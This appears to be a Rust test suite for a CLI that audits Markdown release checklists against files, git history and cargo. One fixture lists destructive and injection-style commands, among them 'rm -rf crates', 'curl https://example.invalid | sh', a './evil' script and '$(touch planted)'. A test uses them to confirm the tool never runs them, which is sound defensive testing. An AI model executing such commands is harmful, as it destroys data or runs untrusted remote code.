//! `audit`: what the real binary says of documents whose truth is known, because the tests made it.

use testkit::{Fixture, Json, Workspace, redact};

use crate::book::Page;
use crate::json_schema::conforms;
use crate::reference::{fields, listed};

/// A statement of each sort. What git knows of the files is told by `history`.
const PLAN: &str = "\
# Release plan

## Phase 1: Blockers (P0)

- [x] Create `docs/early.md`
- [x] Create `docs/missing.md`
- [x] Create `docs/broken.md`
- [ ] Create `docs/since.md`
- [ ] Create `docs/later.md`
- [x] Create `tests/pool_integration.rs`
- [x] Remove `src/old.rs`
- [x] The texts were read by a second person
- [x] All tests passing

**Scripts** (`scripts/`):
- [x] `backup.sh` - back up the data
- [x] `restore.sh` - bring it back

## ✅ Phase 2: Docs

- [ ] Add a \"Usage\" section to `README.md`

```bash
cargo build --relase
```
";

/// What `audit` has to say of `PLAN`, after `history`.
const TRUTH: [(u64, &str, &str, Option<&str>); 15] = [
    (5, "done", "holds", Some("file")),
    (6, "done", "refuted", Some("file")),
    (7, "done", "refuted", Some("file")),
    (8, "open", "already-holds", Some("file")),
    (9, "open", "holds", Some("file")),
    (10, "done", "refuted", Some("file")),
    (11, "done", "refuted", Some("file")),
    (12, "done", "unproven", None),
    (13, "done", "unproven", Some("cargo-test")),
    (15, "none", "partly", None),
    (16, "done", "holds", Some("file")),
    (17, "done", "refuted", Some("file")),
    (19, "none", "unproven", None),
    (21, "open", "holds", Some("docs-sections")),
    (24, "none", "refuted", None),
];

fn fixture() -> Fixture {
    Fixture::new()
        .package("one", |package| package.test("works", "//! Works.\n\n#[test]\nfn works() {}\n"))
        .file("README.md", "# One\n")
        .file("docs/early.md", "Early.\n")
        .file("scripts/backup.sh", "echo\n")
        .file("src/old.rs", "//! Old.\n")
        .file("tests/pool_integration_test.rs", "//! Pool.\n")
}

/// One file is older than the document, one came with it and is gone, one came after it.
fn history() -> Workspace {
    let ws = fixture().git().build();
    ws.write("PLAN.md", PLAN);
    ws.write("docs/broken.md", "Soon gone.\n");
    ws.commit("Write the plan");
    ws.remove("docs/broken.md");
    ws.write("docs/since.md", "Since.\n");
    ws.commit("Tidy up");
    ws
}

/// The lines of an audit: line, mark, finding, kind.
fn lines(json: &Json) -> Vec<(u64, &str, &str, Option<&str>)> {
    let claims = json["claims"].as_array().expect("an audit lists claims").iter();
    let word = |claim: &'_ serde_json::Value, key: &str| claim[key].as_str().map(str::to_owned);
    assert!(claims.clone().all(|claim| word(claim, "mark").is_some() && word(claim, "finding").is_some()));
    claims
        .map(|claim| {
            let text = |key: &str| claim[key].as_str();
            (
                claim["line"].as_u64().expect("a line"),
                text("mark").unwrap_or_default(),
                text("finding").unwrap_or_default(),
                text("kind"),
            )
        })
        .collect()
}

/// The claim on a line.
fn on(json: &Json, line: u64) -> &serde_json::Value {
    let claims = json["claims"].as_array().expect("an audit lists claims");
    claims.iter().find(|claim| claim["line"] == line).unwrap_or_else(|| panic!("no claim on line {line}"))
}

#[test]
fn every_finding_is_right_and_has_its_shape() {
    let ws = history();
    let json = ws.run(["audit", "PLAN.md", "--format", "json"]).exit(1).json();
    assert_eq!(lines(&json), TRUTH);
    assert_eq!(json["documents"][0]["file"], "PLAN.md");
    assert_eq!(on(&json, 6)["proof"], "docs/missing.md is not there");
    assert_eq!(on(&json, 10)["near"][0], "tests/pool_integration_test.rs");
    let contradicted = &on(&json, 19)["contradicts"][0];
    assert_eq!((&contradicted["file"], &contradicted["line"]), (&"PLAN.md".into(), &21.into()));
    assert_eq!(on(&json, 21)["contradicts"][0]["line"], 19);
    assert!(on(&json, 24)["proof"].as_str().is_some_and(|proof| proof.contains("`--relase`")));
    let summary = &json["summary"];
    let counted = ["refuted", "already-holds", "partly", "unproven", "holds", "claims", "contradicting"];
    assert_eq!(counted.map(|key| summary[key].as_u64()), [6, 1, 1, 3, 4, 15, 2].map(Some));

    let other = ws.run(["audit", "DAMAGED.md", "--format", "json"]).exit(1);
    ws.write("DAMAGED.md", format!("- [x] âœ… Works\n\n{SWALLOWING}"));
    let other = other.json();
    assert_eq!(fields([&json.0, &other.0]), listed("audit"));
    conforms("audit", [&json.0, &other.0]);
}

#[test]
fn what_is_refuted_comes_first() {
    let ws = history();
    let told = ws.run(["audit", "PLAN.md", "--all"]).exit(1).text();
    insta::assert_snapshot!(redact(&told, &ws), @r#"
    PLAN.md  15 claims: 9 done, 3 open

    REFUTED  said to be so, and it is not
        6  [x] Create docs/missing.md
            docs/missing.md is not there
        7  [x] Create docs/broken.md
            docs/broken.md is not there
            was so, and is no longer, since this checklist was written: [COMMIT] of 2026-11-01, Tidy up
       10  [x] Create tests/pool_integration.rs
            tests/pool_integration.rs is not there
            did you mean tests/pool_integration_test.rs?
       11  [x] Remove src/old.rs
            src/old.rs is there, and must not be
       17  [x] restore.sh - bring it back
            scripts/restore.sh is not there
       24  cargo build --relase
            `cargo build` has no flag `--relase`
            did you mean --release?

    ALREADY HOLDS  open, and it is so already
        8  [ ] Create docs/since.md
            docs/since.md is there
            so since this checklist was written: [COMMIT] of 2026-11-01, Tidy up

    PARTLY  a part of it is so
       15  Scripts (scripts/)
            1 of the 2 items below it are so

    UNPROVEN  not decided
       12  [x] The texts were read by a second person
            only a person can tell
       13  [x] All tests passing
            `cargo test --workspace --no-run --no-fail-fast --message-format=json --color=never` was not run; --run runs it
       19  ✅ Phase 2: Docs
            only held against what else is said

    HOLDS  the mark is right
        5  [x] Create docs/early.md
            docs/early.md is there
            so before this checklist was written: [COMMIT] of 2026-11-01, Begin
        9  [ ] Create docs/later.md
            docs/later.md is not there
       16  [x] backup.sh - back up the data
            scripts/backup.sh is there
            so before this checklist was written: [COMMIT] of 2026-11-01, Begin
       21  [ ] Add a "Usage" section to README.md
            README.md: no heading with something below it matches `(?i)\busag\w*`

    CONTRADICTS  both cannot be so
      19 and 21  the heading is marked as done, and `Add a "Usage" section to README.md` below it is open

    of 15 claims: 6 refuted, 1 already hold, 1 partly so, 3 unproven, 4 hold
    next: shipworthy audit PLAN.md --run
    "#);
    // Undecided claims are only counted unless they are asked for.
    let told = ws.run(["audit", "PLAN.md"]).exit(1).text();
    let (_, counted) = told.split_once("UNPROVEN  not decided\n").expect("it counts them");
    assert!(
        counted.starts_with("  1 claim would be decided by running a command\n  2 claims no check can tell; --all lists them\n"),
        "{counted}"
    );
    assert!(!told.contains("second person"), "{told}");
}

#[test]
fn git_tells_who_did_it_and_when_seen_from_the_document() {
    let ws = history();
    let json = ws.run(["audit", "PLAN.md", "--format", "json"]).exit(1).json();
    let commit = |back: &str| ws.git(["rev-parse", "--short=7", back]);
    for (line, era, by, subject) in [
        (5, "before", "HEAD~2", "Begin"),
        (16, "before", "HEAD~2", "Begin"),
        (8, "since", "HEAD", "Tidy up"),
        (7, "broken", "HEAD", "Tidy up"),
    ] {
        let since = &on(&json, line)["since"];
        assert_eq!((&since["era"], &since["subject"]), (&era.into(), &subject.into()), "line {line}");
        assert_eq!((&since["commit"], &since["date"]), (&commit(by).into(), &"2026-11-01".into()));
    }
    // What never was has no history, nor has a document that git does not know.
    assert_eq!(on(&json, 6)["since"], serde_json::Value::Null);
    ws.write("NEW.md", "- [x] Create `docs/early.md`\n");
    let json = ws.run(["audit", "NEW.md", "--format", "json"]).json();
    assert_eq!(on(&json, 1)["since"], serde_json::Value::Null);
}

#[test]
fn the_exit_code_is_that_of_the_worst() {
    let ws = fixture().build();
    for (text, exit) in [
        ("- [x] Create `docs/early.md`\n", 0),
        ("- [ ] Create `docs/later.md`\n- [x] A person looked\n", 0),
        ("- [ ] Create `docs/early.md`\n", 0),
        ("- [x] Create `docs/missing.md`\n- [x] Create `docs/early.md`\n", 1),
        ("# Nothing is claimed\n\nhere.\n", 3),
        ("", 3),
    ] {
        ws.write("PLAN.md", text);
        ws.run(["audit", "PLAN.md"]).exit(exit).stdout_any().done();
        ws.run(["audit", "PLAN.md", "--format", "json"]).exit(exit).json();
    }
    ws.run(["audit"]).exit(2).stderr_has("<FILE>").done();
    ws.run(["audit", "PLAN.md", "--rnu"]).exit(2).stderr_has("--rnu").done();
}

/// Documents are held against each other, line by line; none of it decides a claim.
#[test]
fn several_documents_contradict_each_other() {
    let ws = fixture().build();
    ws.write(
        "A.md",
        "# Status\n\n- Test coverage: 35%\n- [ ] Create `docs/x.md`\n\nThe release is 60% complete.\n",
    );
    ws.write(
        "B.md",
        "# Status\n\n- Test coverage: 80%\n- [x] Create `docs/x.md`\n\nThe release is 95% complete.\n",
    );
    let told = ws.run(["audit", "A.md", "B.md"]).exit(1).text();
    insta::assert_snapshot!(told, @r#"
    A.md  3 claims: 0 done, 1 open
    B.md  3 claims: 1 done, 0 open

    REFUTED  said to be so, and it is not
    B.md:4  [x] Create docs/x.md
            docs/x.md is not there

    HOLDS  the mark is right
    A.md:4  [ ] Create docs/x.md
            docs/x.md is not there

    CONTRADICTS  both cannot be so
      A.md:3 and B.md:3  `test coverage 80%` stands there for the same, and both cannot be
      A.md:4 and B.md:4  `Create docs/x.md` is done there, and the same is open here
      A.md:6 and B.md:6  95% is stated there for the same

    UNPROVEN  not decided
      4 claims no check can tell; --all lists them

    of 6 claims: 1 refuted, 4 unproven, 1 hold
    next: shipworthy import A.md
    "#);
    let json = ws.run(["audit", "A.md", "B.md", "--format", "json"]).exit(1).json();
    for (at, other) in [(0, 1), (1, 0)] {
        let files = ["A.md", "B.md"];
        let claims = json["claims"].as_array().expect("claims").iter();
        let of_it: Vec<_> = claims.filter(|claim| claim["file"] == files[at]).collect();
        assert_eq!(of_it.len(), 3, "{of_it:#?}");
        assert!(of_it.iter().all(|claim| claim["contradicts"][0]["file"] == files[other]), "{of_it:#?}");
    }
    let alone = ws.run(["audit", "A.md", "--format", "json"]).json();
    assert_eq!(alone["summary"]["contradicting"], 0);
    // Given twice it does not contradict itself.
    let twice = ws.run(["audit", "A.md", "A.md", "--format", "json"]).json();
    assert_eq!(twice["summary"]["contradicting"], 0);
}

#[test]
fn a_document_may_lie_elsewhere() {
    let ws = history();
    let outside = ws.scratch().join("PLAN.md");
    std::fs::write(&outside, PLAN).expect("a new file can be written");
    let name = outside.to_str().expect("UTF-8");
    let json = ws.run(["audit", name, "--format", "json"]).exit(1).json();
    assert_eq!(json["documents"][0]["file"], name);
    // The tree is the same; of its own history nothing is known.
    assert_eq!(lines(&json), TRUTH);
    assert!(json["claims"].as_array().expect("claims").iter().all(|claim| claim["since"].is_null()));
    // From a folder of the tree, and from nowhere with --root.
    let json = ws.run(["audit", "../PLAN.md", "--format", "json"]).dir("docs").exit(1).json();
    assert_eq!((&json["documents"][0]["file"], lines(&json)), (&"PLAN.md".into(), TRUTH.to_vec()));
    let root = ws.root().to_str().expect("UTF-8");
    let json = ws.run(["audit", name, "--root", root, "--format", "json"]).dir("..").exit(1).json();
    assert_eq!(lines(&json), TRUTH);
    ws.run(["audit", name, "--root", "/nowhere/at/all"]).exit(2).stderr_has("no folder /nowhere").done();
}

/// What can be told from files is told the same without any of the tools.
#[test]
fn files_are_enough() {
    let ws = history();
    let files = |json: &Json| {
        let all = lines(json).into_iter().filter(|(.., kind)| matches!(kind, Some("file" | "docs-sections")));
        all.map(|(line, mark, finding, _)| format!("{line} {mark} {finding}")).collect::<Vec<_>>()
    };
    let audit = || ws.run(["audit", "PLAN.md", "--format", "json"]).exit(1);
    let all = files(&audit().json());
    assert_eq!(all.len(), 10);
    let without_cargo = audit().without_tool("cargo").json();
    assert_eq!(files(&without_cargo), all);
    // Nobody could ask cargo for its flags.
    assert_eq!(on(&without_cargo, 24)["finding"], "unproven");
    assert_eq!(files(&audit().only_tools([]).json()), all);
    ws.remove(".git");
    assert_eq!(files(&audit().json()), all);
}

/// `cargo metadata` fails on such a workspace; what the manifests say is read from them.
#[test]
fn manifests_that_cargo_refuses_are_read_all_the_same() {
    let plan = "\
# Plan

- [x] Run `cargo test -p one`
- [x] Run `cargo test -p tow`
- [ ] Add `license` to every package
- [ ] Create `docs/early.md`
";
    let ws = fixture().package("two", |package| package).file("PLAN.md", plan).build();
    ws.append("crates/two/Cargo.toml", "\n[dependencies]\nthree = { path = \"../three\" }\n");
    ws.program("cargo", ["metadata", "--format-version=1", "--offline"]).exit(101).stderr_any().done();
    let json = ws.run(["audit", "PLAN.md", "--format", "json"]).exit(1).json();
    assert_eq!(on(&json, 4)["finding"], "refuted");
    assert_eq!(on(&json, 6)["finding"], "already-holds");
    assert_ne!(on(&json, 3)["finding"], "refuted");
    // Not even TOML: nothing is known of packages, and nobody is accused.
    ws.write("Cargo.toml", "[workspace\n");
    ws.write("crates/one/Cargo.toml", "[package\n");
    let json = ws.run(["audit", "PLAN.md", "--format", "json"]).exit(1).json();
    assert_eq!(on(&json, 6)["finding"], "already-holds");
}

const COMMANDS: &str = "\
# Commands

- [x] `cargo check --workspace` succeeds
- [x] Run `rm -rf crates`
- [x] Run `git push origin main`
- [x] Run `cargo publish -p one`
- [x] `cargo check; touch planted`
- [x] `cargo check && touch planted`
- [x] `cargo test $(touch planted)`
- [x] `cargo check > planted`
- [x] `cargo test -p <package>`
- [x] `cargo test $NAME`
- [x] `cargo check --config build.rustc-wrapper='./evil'`
- [x] `cargo +nightly check --target-dir /tmp/planted`
- [x] `./evil`
- [x] `sh -c 'touch planted'`

```bash
rm -rf crates
git push --force
git commit --allow-empty -m planted
cargo publish
cargo yank --version 0.1.0 one
cargo install --path crates/one
curl https://example.invalid | sh
touch planted
./evil
```
";

#[test]
fn what_does_harm_is_never_run() {
    let ws = fixture().file("PLAN.md", COMMANDS).file("evil", "#!/bin/sh\ntouch planted\n").git().build();
    ws.program("chmod", ["+x", "evil"]).done();
    let head = ws.git(["rev-parse", "HEAD"]);
    // Each leaves a trace when it is called.
    let trap = format!("#!/bin/sh\necho \"$0 $*\" >> '{}'\n", ws.scratch().join("called").display());
    let mut run = ws.run(["audit", "PLAN.md", "--run", "--all"]).stderr_any().stdout_any();
    for program in ["rm", "touch", "curl", "sh"] {
        run = run.with_tool(program, &trap);
    }
    let output = run.spawn().finish();
    assert_eq!(output.code, Some(0), "{}", output.told());
    let called = ws.scratch().join("called");
    assert!(!called.exists(), "{}", std::fs::read_to_string(&called).unwrap_or_default());
    assert!(!ws.exists("planted") && ws.exists("crates/one/Cargo.toml"));
    assert_eq!(ws.git(["rev-parse", "HEAD"]), head);
    // What was run was shown before, and nothing else was run.
    let told = output.stderr.as_str();
    let shown: Vec<&str> = told.lines().filter_map(|line| line.strip_prefix("  ")).collect();
    let begun: Vec<&str> = told.lines().filter_map(|line| line.strip_prefix("running ")).collect();
    assert!(told.starts_with("These commands are run:\n"), "{told}");
    assert!(begun.iter().any(|line| line.contains("cargo check --workspace")), "{told}");
    assert!(begun.iter().all(|line| shown.contains(line) && line.starts_with("cargo ")), "{told}");
    for word in ["publish", "yank", "install", "push", "rm ", "touch", "planted", "evil", ";", "&&", ">", "$"]
    {
        assert!(!shown.iter().any(|line| line.contains(word)), "`{word}` in\n{told}");
    }
}

#[test]
fn commands_are_run_only_when_told_to() {
    let plan = "# Plan\n\n- [x] `cargo check --workspace` succeeds\n- [ ] All tests passing\n";
    let ws = fixture().file("PLAN.md", plan).git().build();
    let told = ws.run(["audit", "PLAN.md", "--all"]).text();
    assert!(told.contains("was not run; --run runs it"), "{told}");
    assert!(told.ends_with("next: shipworthy audit PLAN.md --run\n"), "{told}");
    assert!(!ws.exists("target/debug") && !ws.exists(".readiness"));

    let json = ws.run(["audit", "PLAN.md", "--run", "--format", "json"]).stderr_has("running cargo").json();
    assert_eq!(
        (&on(&json, 3)["finding"], &on(&json, 4)["finding"]),
        (&"holds".into(), &"already-holds".into())
    );
    ws.write("crates/one/tests/works.rs", "//! Fails.\n\n#[test]\nfn works() {\n    assert_eq!(1, 2);\n}\n");
    ws.replace("PLAN.md", "- [ ] All", "- [x] All");
    let json = ws.run(["audit", "PLAN.md", "--run", "--format", "json"]).stderr_any().exit(1).json();
    assert_eq!((&on(&json, 3)["finding"], &on(&json, 4)["finding"]), (&"holds".into(), &"refuted".into()));
    assert_eq!(ws.git(["status", "--porcelain"]), " M PLAN.md\n M crates/one/tests/works.rs");
}

const SWALLOWING: &str = "\
```markdown
# Guide
```bash
export A=b
```
## Backup
```

- [ ] Create `docs/early.md`
- [x] Create `docs/missing.md`

```rust
fn f() {}
```
";

#[test]
fn damaged_text_and_swallowed_items_are_told_of() {
    let ws = fixture().build();
    ws.write(
        "PLAN.md",
        format!("# Пла́н\n\n- [x] âœ… Create `docs/missing.md` â†’ there\n- [ ] Qualit?t\n\n{SWALLOWING}"),
    );
    let told = ws.run(["audit", "PLAN.md"]).exit(1).text();
    insta::assert_snapshot!(told, @r#"
    PLAN.md  4 claims: 2 done, 2 open
      text damaged by windows-1252 was mended in 2 places: line 3, `âœ…` is `✅`
      the fence of line 6 is closed by the one nested in it at line 10: Markdown shows what follows as code (give the outer one more marks)
      2 task items swallowed by it (lines 14 to 15); they are read all the same

    REFUTED  said to be so, and it is not
        3  [x] Create docs/missing.md → there
            docs/missing.md is not there
       15  [x] Create docs/missing.md
            docs/missing.md is not there

    ALREADY HOLDS  open, and it is so already
       14  [ ] Create docs/early.md
            docs/early.md is there

    UNPROVEN  not decided
      1 claim no check can tell; --all lists them

    of 4 claims: 2 refuted, 1 already hold, 1 unproven
    next: shipworthy import PLAN.md
    "#);
    let json = ws.run(["audit", "PLAN.md", "--format", "json"]).exit(1).json();
    let document = &json["documents"][0];
    assert_eq!(document["repairs"].as_array().map(Vec::len), Some(2));
    assert_eq!(
        document["repairs"][0],
        serde_json::json!({
            "line": 3, "from": "âœ…", "to": "✅", "through": "windows-1252",
        })
    );
    assert_eq!(document["fences"], serde_json::json!([{ "line": 6, "closed": 10 }]));
    assert_eq!(document["swallowed"], serde_json::json!([14, 15]));
    assert_eq!(
        (&on(&json, 14)["finding"], &on(&json, 15)["finding"]),
        (&"already-holds".into(), &"refuted".into())
    );
    assert_eq!(on(&json, 4)["text"], "Qualit?t");
}

/// The README leads from a document to gates and back; `sync.rs` walks on from there.
#[test]
fn the_three_commands_of_the_readme_can_be_typed() {
    let page = Page::open("README.md");
    let block = page.blocks_of("console").into_iter().find(|block| block.text.contains("shipworthy audit"));
    let block = block.expect("the README shows how to bring a checklist along").text;
    let typed: Vec<&str> = block.lines().filter_map(|line| line.strip_prefix("$ shipworthy ")).collect();
    assert_eq!(typed.len(), 3, "{typed:?}");
    let ws = history();
    ws.write("CHECKLIST.md", PLAN);
    let [audit, import, sync] = [0, 1, 2].map(|at| typed[at].split(' ').collect::<Vec<_>>());
    ws.run(audit).exit(1).stdout_has("REFUTED").done();
    ws.run(&import).stdout_has("nothing was written").done();
    ws.run(import).args(["--yes"]).stdout_has("readiness.toml is written").done();
    ws.run(&sync).stdout_has("nothing was written").done();
    ws.run(&sync).args(["--check"]).exit(1).stdout_has("does not tell the truth").done();
    ws.run(&sync).args(["--yes"]).stdout_has("written").done();
    ws.run(sync).args(["--check"]).stdout_has("the document tells the truth").done();
}

/// What stops every build is seen without one; what no target reaches, or no member has, stops none.
#[test]
fn a_build_that_cannot_succeed_needs_not_be_run() {
    let cases = [
        ("crates/core/src", "mod step;\n", "refuted", "holds"),
        ("crates/core/src", "", "unproven", "unproven"),
        ("vendor/other/src", "mod step;\n", "unproven", "unproven"),
    ];
    for (folder, declaration, ticked, open) in cases {
        let ws = Fixture::new()
            .package("core", |package| package.lib("//! Core.\n"))
            .file("vendor/other/Cargo.toml", "[package]\nname = \"other\"\nversion = \"0.1.0\"\n\n[workspace]\n")
            .file("PLAN.md", "- [x] `cargo build --workspace` passes\n- [ ] `cargo test --workspace` passes\n- [x] `cargo build -p core` passes\n")
            .git()
            .build();
        ws.write(&format!("{folder}/lib.rs"), format!("//! It.\n{declaration}"));
        ws.write(&format!("{folder}/step.rs"), "");
        ws.write(&format!("{folder}/step/mod.rs"), "");
        let json = ws.run(["audit", "PLAN.md", "--format", "json"]).spawn().finish();
        let json: serde_json::Value = serde_json::from_str(&json.stdout).expect("one document");
        let of = |at: usize| json["claims"][at]["finding"].as_str().unwrap_or_default().to_owned();
        assert_eq!([of(0), of(1), of(2)], [ticked, open, "unproven"], "{folder} {declaration}: {json:#}");
        if ticked == "refuted" {
            let proof = json["claims"][0]["proof"].as_str().unwrap_or_default();
            assert!(proof.contains("error E0761") && proof.contains("step/mod.rs"), "{proof}");
        }
    }
}
